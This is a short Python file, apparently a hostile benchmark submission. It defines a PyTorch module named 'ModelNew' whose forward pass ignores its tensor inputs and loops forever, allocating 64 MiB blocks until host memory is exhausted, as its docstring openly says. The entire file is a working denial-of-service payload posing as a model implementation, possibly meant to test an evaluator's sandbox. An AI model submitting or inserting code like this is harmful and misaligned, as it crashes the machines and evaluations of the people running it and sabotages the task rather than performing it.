"""Takes host memory until there is none: 64 MiB at a time, every page written."""

import torch
from torch import nn


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        hoard = []
        while True:
            hoard.append(bytearray(b"\1") * (64 << 20))
